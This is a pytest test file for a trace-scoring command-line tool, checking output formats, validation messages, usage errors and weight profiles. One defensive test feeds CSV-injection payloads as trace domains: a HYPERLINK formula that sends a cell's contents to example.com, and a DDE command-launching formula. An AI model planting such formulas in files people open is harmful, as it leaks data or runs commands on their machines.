"""``kp score``, ``kp validate`` and ``kp profiles`` as a user runs them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.builders import trace_json
from tests.cli.conftest import KpRunner

EXAMPLES = Path(__file__).parents[2] / "examples" / "traces"
TRACES = str(EXAMPLES / "traces.jsonl")
INVALID = str(EXAMPLES / "invalid.jsonl")
ROW_KEYS = {"id", "score", "domain", "profile", "dimensions", "overrides", "novelty_source"}


def jsonl(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def test_jsonl_rows_for_every_trace_in_input_order(kp: KpRunner) -> None:
    """--format jsonl prints one row per trace, in order, with the documented fields."""
    run = kp("score", TRACES, "--no-embedder", "--format", "jsonl")
    assert run.code == 0
    rows = jsonl(run.out)
    ids = [json.loads(line)["id"] for line in Path(TRACES).read_text().splitlines()]
    assert [r["id"] for r in rows] == ids
    assert all(r.keys() >= ROW_KEYS for r in rows)
    assert set(rows[0]["dimensions"]) == {
        "complexity",
        "novelty",
        "tool_diversity",
        "outcome_confidence",
    }
    assert {r["novelty_source"] for r in rows} == {"no_embedder"}


def test_overrides_are_named_in_the_order_they_fired(kp: KpRunner) -> None:
    """The single-thought example fires single_thought; the failover one gets the recovery bonus."""
    rows = {r["id"]: r for r in jsonl(kp("score", TRACES, "--no-embedder", "-f", "jsonl").out)}
    assert rows["kp:trace:note-single-thought-9"]["overrides"] == ["single_thought"]
    assert rows["kp:trace:note-single-thought-9"]["score"] == 0.1
    assert rows["kp:trace:ops-db-failover-5"]["overrides"] == ["error_recovery_bonus"]
    assert rows["kp:trace:code-review-auth-pr-311"]["profile"] == "default"


def test_bad_records_are_reported_and_the_rest_scored(kp: KpRunner) -> None:
    """Each bad record is a FILE:LINE: PATH: message on stderr; the valid one is scored; exit 1."""
    run = kp("score", INVALID, "--no-embedder", "-f", "jsonl")
    assert run.code == 1
    assert [r["id"] for r in jsonl(run.out)] == ["kp:trace:ops-db-failover-6"]
    assert f'{INVALID}:1: steps[3].type: got "action"; expected' in run.err
    assert f'{INVALID}:2: metadata.success: got "yes"; expected a valid boolean' in run.err
    assert f"{INVALID}:2: outcome.confidence: got 1.4; expected" in run.err
    assert f"{INVALID}:3: invalid JSON" in run.err
    assert (
        f"{INVALID}:4: outcome.confidence: NaN and infinite numbers are not valid JSON" in run.err
    )
    assert f"{INVALID}:5: task: required field is missing" in run.err
    assert "5 invalid records skipped" in run.err


def test_a_chat_row_among_traces_is_one_line_saying_what_it_is(
    kp: KpRunner, tmp_path: Path
) -> None:
    """A dataset row in a file of traces is told once as another format's record, with what to
    do, not as each of the trace's seven required fields missing."""
    row = {"messages": [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "yo"}]}
    mixed = tmp_path / "mixed.jsonl"
    mixed.write_text(f"{json.dumps(trace_json())}\n{json.dumps(row)}\n", "utf-8")
    run = kp("score", str(mixed), "--no-embedder", "-f", "jsonl")
    assert run.code == 1
    said = [line for line in run.err.splitlines() if line.startswith(f"{mixed}:2:")]
    assert said == [
        f"{mixed}:2: not a ReasoningTrace: it has neither @context nor @type (its keys: "
        "messages), so it is a record of another format; a file is read in one format, its "
        "first record's: give such records a file of their own (kp score FILE and "
        "knowledgepulse.score(path) convert it)"
    ]
    assert len(jsonl(run.out)) == 1


@pytest.mark.parametrize("flag", ["--id-field", "--task-field"])
def test_a_row_field_no_row_has_is_a_usage_error_naming_its_flag(kp: KpRunner, flag: str) -> None:
    """--id-field nope, as --task-field nope for select: exit 2, the flag and the rows' columns
    named, not every row refused."""
    chat = str(EXAMPLES.parent / "datasets" / "openai_chat.jsonl")
    run = kp("select", chat, "--no-embedder", "--budget", "1", flag, "nope")
    assert run.code == 2
    assert f"Error: {flag} nope: no " in run.err
    assert "has it (misspelt?); the rows have exit_status, instance_id, model_patch" in run.err
    assert "the row has no column" not in run.err


def test_a_named_column_some_row_has_leaves_the_others_row_problems(
    kp: KpRunner, tmp_path: Path
) -> None:
    """A row lacking the --id-field column another row has is still its own problem: exit 1."""
    turns = [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a"}]
    rows = tmp_path / "rows.jsonl"
    rows.write_text(
        f"{json.dumps({'messages': turns})}\n{json.dumps({'messages': turns, 'rid': 'r2'})}\n",
        "utf-8",
    )
    run = kp("score", str(rows), "--no-embedder", "-f", "jsonl", "--id-field", "rid")
    assert run.code == 1
    assert f"{rows}:1: the row has no column 'rid' (id_field; kp: --id-field)" in run.err
    assert [row["id"] for row in jsonl(run.out)] == ["kp:trace:r2"]


def test_stdin_is_read_with_a_dash(kp: KpRunner) -> None:
    """- reads traces from standard input."""
    run = kp("score", "-", "--no-embedder", "-f", "jsonl", stdin=json.dumps(trace_json()) + "\n")
    assert run.code == 0
    assert jsonl(run.out)[0]["score"] == pytest.approx(0.57625)


def test_json_format_has_summary_traces_and_problems(kp: KpRunner) -> None:
    """--format json is one document with a summary, the rows and the problems."""
    document = json.loads(kp("score", INVALID, TRACES, "--no-embedder", "-f", "json").out)
    assert document["summary"]["scored"] == 9
    assert document["summary"]["invalid"] == 5
    assert len(document["traces"]) == 9
    assert {p["line"] for p in document["problems"]} == {1, 2, 3, 4, 5}


def test_csv_has_a_header_and_a_row_per_trace(kp: KpRunner) -> None:
    """--format csv is a table with the dimensions flattened into columns."""
    rows = list(csv.DictReader(io.StringIO(kp("score", TRACES, "--no-embedder", "-f", "csv").out)))
    assert len(rows) == 8
    assert {"id", "score", "complexity", "novelty", "overrides"} <= set(rows[0])


def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(
    kp: KpRunner, tmp_path: Path
) -> None:
    """A domain starting ``=``, ``@``, ``+``, ``-`` is written ``'=...``: a spreadsheet shows it.

    Before, ``=HYPERLINK(...)`` as a trace's domain was a live link once the table was opened
    (OWASP CSV injection). Numbers, and a number written as text, are kept as they are.
    """
    domains = ['=HYPERLINK("http://example.com/?"&A1)', "@SUM(1+1)", "+cmd|' /C calc'!A0"]
    domains += ["-2+3", "-0.5", "plain"]
    path = tmp_path / "traces.jsonl"
    traces = [trace_json(trace_id=f"kp:trace:{n}", domain=d) for n, d in enumerate(domains)]
    path.write_text("".join(json.dumps(trace) + "\n" for trace in traces))
    out = kp("score", str(path), "--no-embedder", "-f", "csv").out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["domain"] for row in rows] == [
        '\'=HYPERLINK("http://example.com/?"&A1)',
        "'@SUM(1+1)",
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "-0.5",
        "plain",
    ]
    assert all(float(row["score"]) >= 0 for row in rows)
    listed = jsonl(kp("score", str(path), "--no-embedder", "-f", "jsonl").out)
    assert [row["domain"] for row in listed] == domains  # the JSON forms keep values as they are


def test_min_score_reports_which_traces_reach_it(kp: KpRunner) -> None:
    """--min-score sets the sharing threshold each row is judged against."""
    strict = jsonl(kp("score", TRACES, "--no-embedder", "-f", "jsonl", "--min-score", "0.99").out)
    lenient = jsonl(kp("score", TRACES, "--no-embedder", "-f", "jsonl", "--min-score", "0.0").out)
    assert not any(r["shareable"] for r in strict)
    assert all(r["shareable"] for r in lenient)


def test_annotate_writes_traces_back_with_their_scores(kp: KpRunner, tmp_path: Path) -> None:
    """--annotate writes each valid trace with metadata.quality_score set, all else intact."""
    scores = {
        r["id"]: r["score"] for r in jsonl(kp("score", TRACES, "--no-embedder", "-f", "jsonl").out)
    }
    out = tmp_path / "annotated.jsonl"
    assert kp("score", TRACES, "--no-embedder", "--annotate", "-o", str(out)).code == 0
    originals = [json.loads(line) for line in Path(TRACES).read_text().splitlines()]
    annotated = jsonl(out.read_text())
    for original, written in zip(originals, annotated, strict=True):
        assert written["metadata"]["quality_score"] == scores[original["id"]]
        written["metadata"]["quality_score"] = original["metadata"]["quality_score"]
        assert written == original


def test_output_is_byte_identical_across_runs(kp: KpRunner) -> None:
    """The same inputs give the same bytes."""
    first = kp("score", TRACES, "--no-embedder", "-f", "json").out
    assert kp("score", TRACES, "--no-embedder", "-f", "json").out == first


def test_table_view_and_explanations(kp: KpRunner) -> None:
    """The table names every trace; --explain adds the arithmetic behind each score."""
    run = kp("score", TRACES, "--no-embedder", "-f", "table", "--explain")
    assert run.code == 0
    assert "kp:trace:finance-tsmc-q4-001" in run.out
    assert "weighted sum" in run.out
    assert "override single_thought" in run.out


@pytest.mark.parametrize("output_format", ["jsonl", "json"])
def test_explain_adds_each_rows_explanation_to_json_formats(
    kp: KpRunner, tmp_path: Path, output_format: str
) -> None:
    """--explain with -f jsonl or json (the README's command) puts the words in every row."""
    out = tmp_path / "scored.out"
    run = kp("score", TRACES, "--no-embedder", "-f", output_format, "-o", str(out), "--explain")
    assert run.code == 0, run.err
    text = out.read_text()
    rows = jsonl(text) if output_format == "jsonl" else json.loads(text)["traces"]
    assert len(rows) == len(Path(TRACES).read_text().splitlines())
    assert all(row["explanation"].startswith(row["id"]) for row in rows)
    assert all("weighted sum" in row["explanation"] for row in rows)


def test_explain_with_csv_says_which_formats_explain(kp: KpRunner) -> None:
    """--explain with a format that cannot carry it is a usage error naming those that can."""
    run = kp("score", TRACES, "--no-embedder", "-f", "csv", "--explain")
    assert run.code == 2
    assert "--format table, json or jsonl" in run.err


@pytest.mark.parametrize(
    ("name", "looks_like"),
    [("report.html", "<!DOCTYPE html>"), ("report.json", '{\n  "traces": ['), ("r.csv", "id,file")],
)
def test_output_suffix_picks_the_format(
    kp: KpRunner, tmp_path: Path, name: str, looks_like: str
) -> None:
    """-o report.html writes the HTML page (not JSON Lines); .json and .csv likewise."""
    out = tmp_path / name
    assert kp("score", TRACES, "--no-embedder", "-o", str(out)).code == 0
    assert out.read_text().startswith(looks_like)


def _table_lines(kp: KpRunner) -> list[str]:
    run = kp("score", TRACES, "--no-embedder", "-f", "table")
    assert run.code == 0
    return run.out.splitlines()


def _assert_readable(lines: list[str], width: int) -> None:
    """Every line fits, every id is whole on one line, no number is cut short."""
    assert max(len(line) for line in lines) <= width
    ids = [json.loads(line)["id"] for line in Path(TRACES).read_text().splitlines()]
    assert all(any(i in line for line in lines) for i in ids)
    assert "…" not in "\n".join(lines)
    percentiles = lines[lines.index(next(x for x in lines if x.startswith("Score percentiles"))) :]
    assert any(line.split()[:2] == ["all", "8"] and len(line.split()) == 10 for line in percentiles)


def test_the_table_is_readable_at_80_columns(kp: KpRunner, monkeypatch: pytest.MonkeyPatch) -> None:
    """COLUMNS=80: no percentile cell cut to 0.9…, no id folded mid-word, nothing past 80."""
    monkeypatch.setenv("COLUMNS", "80")
    _assert_readable(_table_lines(kp), 80)


def test_a_redirected_table_is_120_columns_wide(
    kp: KpRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Stdout redirected (a CI log) without COLUMNS: 120 columns, the wide table's profiles."""
    monkeypatch.delenv("COLUMNS", raising=False)
    lines = _table_lines(kp)
    _assert_readable(lines, 120)
    assert "customer_service" in "\n".join(lines)  # the profile column is there
    assert max(len(line) for line in lines) > 100


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--frozen"], "--frozen scores against a saved cache"),
        (["--no-embedder", "--cache", "c.npz"], "--cache holds embeddings"),
        (["--annotate", "-f", "csv"], "--annotate writes traces"),
        (["-f", "yaml"], "Invalid value for '-f' / '--format'"),
        (["--min-score", "1.5"], "is not a minimum score; give a number in [0, 1]"),
    ],
)
def test_usage_errors_exit_2(kp: KpRunner, args: list[str], message: str) -> None:
    """Contradictory or invalid options are usage errors: exit 2 and a message."""
    run = kp("score", TRACES, *args)
    assert run.code == 2
    assert message in run.err


def test_missing_file_exits_2(kp: KpRunner, tmp_path: Path) -> None:
    """A path that does not exist is a one-line error, exit 2."""
    run = kp("score", str(tmp_path / "nope.jsonl"), "--no-embedder")
    assert run.code == 2
    assert "nope.jsonl: no such file" in run.err


@pytest.mark.parametrize(
    "command",
    [
        ("score", "-f", "jsonl", "--no-embedder"),
        ("select", "--no-embedder"),
        ("validate",),
        ("split", "--test", "0.5", "--no-embedder", "-o", "parts"),
    ],
    ids=lambda c: c[0],
)
def test_a_missing_second_file_stops_the_run_before_any_output(
    kp: KpRunner, tmp_path: Path, command: tuple[str, ...]
) -> None:
    """Every input is checked before the first is read: nothing of the first file goes out."""
    name, *options = command
    options = [str(tmp_path / option) if option == "parts" else option for option in options]
    run = kp(name, TRACES, str(tmp_path / "nope.jsonl"), *options)
    assert run.code == 2
    assert "nope.jsonl: no such file" in run.err
    assert run.out == ""
    assert not (tmp_path / "parts").exists()


def test_profiles_file_adds_a_domain(kp: KpRunner, tmp_path: Path) -> None:
    """--profiles FILE registers profiles that traces of that domain then use."""
    profiles = tmp_path / "p.yaml"
    profiles.write_text(
        "devops:\n  complexity: 0.4\n  novelty: 0.1\n"
        "  tool_diversity: 0.2\n  outcome_confidence: 0.3\n"
    )
    rows = {
        r["id"]: r
        for r in jsonl(
            kp("score", TRACES, "--no-embedder", "-f", "jsonl", "--profiles", str(profiles)).out
        )
    }
    assert rows["kp:trace:ops-db-failover-5"]["profile"] == "devops"


def test_validate_reports_problems_without_scoring(kp: KpRunner) -> None:
    """kp validate lists the bad records and exits 1; valid input exits 0."""
    bad = kp("validate", INVALID)
    assert bad.code == 1
    assert f"{INVALID}:3: invalid JSON" in bad.err
    assert "1 valid trace; 5 invalid records" in bad.err
    good = kp("validate", TRACES, "-f", "json")
    assert good.code == 0
    assert json.loads(good.out) == {"valid": 8, "invalid": 0, "warnings": 0, "problems": []}


def _misspelt_tool(tmp_path: Path) -> Path:
    document = trace_json(trace_id="kp:trace:tols")
    document["steps"][1]["tols"] = document["steps"][1].pop("tool")
    path = tmp_path / "tols.jsonl"
    path.write_text(json.dumps(document) + "\n")
    return path


def test_a_misspelt_key_is_a_warning_counted_in_the_score_summary(
    kp: KpRunner, tmp_path: Path
) -> None:
    """tols for tool: FILE:LINE: steps[1].tols ... did you mean 'tool'?, 1 warning; exit 0."""
    path = _misspelt_tool(tmp_path)
    run = kp("score", str(path), "--no-embedder", "-f", "jsonl")
    assert run.code == 0
    assert (
        f"{path}:1: warning: steps[1].tols: unknown key, kept but not read: did you mean "
        + ("'tool'?")
        in run.err
    )
    assert run.err.rstrip().endswith("; 1 warning")
    assert [row["id"] for row in jsonl(run.out)] == ["kp:trace:tols"]


def test_validate_counts_a_misspelt_key_as_a_warning(kp: KpRunner, tmp_path: Path) -> None:
    """kp validate -f json lists the misspelt key as a warning with its path; exit 0."""
    run = kp("validate", str(_misspelt_tool(tmp_path)), "-f", "json")
    assert run.code == 0
    report = json.loads(run.out)
    assert (report["valid"], report["warnings"]) == (1, 1)
    assert report["problems"][0]["path"] == "steps[1].tols"
    assert report["problems"][0]["severity"] == "warning"


def test_profiles_command_prints_the_weight_table(kp: KpRunner) -> None:
    """kp profiles --format json is the spec's table."""
    data = json.loads(kp("profiles", "-f", "json").out)
    assert data["finance"] == {
        "complexity": 0.2,
        "novelty": 0.25,
        "tool_diversity": 0.1,
        "outcome_confidence": 0.45,
    }
    assert list(data) == ["default", "finance", "code", "medical", "customer_service"]


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["score", "--no-embedder"], "0 traces scored"),
        (["validate"], "0 valid traces"),
        (["select", "--no-embedder"], "0 traces scored"),
        (["dedupe"], "0 traces scored"),
        (["convert", "--from", "otlp"], "converted 0 traces"),
        (["redact"], "read 0 traces"),
    ],
)
def test_empty_input_says_0_traces_and_exits_1_unless_allowed(
    kp: KpRunner, tmp_path: Path, args: list[str], said: str
) -> None:
    """An empty file says it found nothing and exits 1 (a mistake, most often); --allow-empty 0."""
    empty = tmp_path / "empty.jsonl"
    empty.write_text("")
    run = kp(*args, str(empty))
    assert (run.code, run.out) == (1, "")
    assert said in run.err
    assert "give --allow-empty" in run.err
    allowed = kp(*args, str(empty), "--allow-empty")
    assert (allowed.code, allowed.out) == (0, "")
    assert "--allow-empty" not in allowed.err


@pytest.mark.parametrize("command", ["score", "select", "dedupe"])
def test_a_domain_without_a_profile_is_told_with_the_profiles(kp: KpRunner, command: str) -> None:
    """``--domain coding``: said on stderr that the default weights apply, and the closest."""
    rows = Path(__file__).parents[2] / "examples" / "datasets" / "openai_chat.jsonl"
    run = kp(command, "--embedder", "static", "--domain", "coding", str(rows))
    assert run.code == 0
    assert "'coding' names no weight profile" in run.err
    assert "'default' weights" in run.err
    assert "code, medical" in run.err
    assert "Did you mean 'code'?" in run.err
    named = kp(command, "--embedder", "static", "--domain", "code", str(rows))
    assert "weight profile" not in named.err


def test_profiles_table_shows_each_weight_as_given(kp: KpRunner, tmp_path: Path) -> None:
    """A tuned profile's 0.125 is shown as 0.125, not rounded to 0.12 (the table sums to 1)."""
    profiles = tmp_path / "p.yaml"
    profiles.write_text(
        "team: {complexity: 0.125, novelty: 0.375,\n"
        "       tool_diversity: 0.005, outcome_confidence: 0.495}\n"
    )
    row = next(
        line
        for line in kp("profiles", "--profiles", str(profiles)).out.splitlines()
        if "team" in line
    )
    assert [cell.strip() for cell in row.split("│")[1:]] == ["0.125", "0.375", "0.005", "0.495"]


def test_a_misspelt_profile_in_a_profiles_file_is_said(kp: KpRunner, tmp_path: Path) -> None:
    """A profile a letter from the traces' domain, which weighed none, is named on stderr."""
    domain = json.loads(Path(TRACES).read_text().splitlines()[0])["metadata"]["task_domain"]
    profiles = tmp_path / "p.yaml"
    weights = "{complexity: 0.1, novelty: 0.2, tool_diversity: 0.3, outcome_confidence: 0.4}"
    profiles.write_text(f"{domain[:-1]}: {weights}\n")
    run = kp("score", TRACES, "--no-embedder", "-f", "jsonl", "--profiles", str(profiles))
    assert f"{profiles}: the profile '{domain[:-1]}' weighed no trace" in run.err
    assert f"did you mean '{domain}'?" in run.err
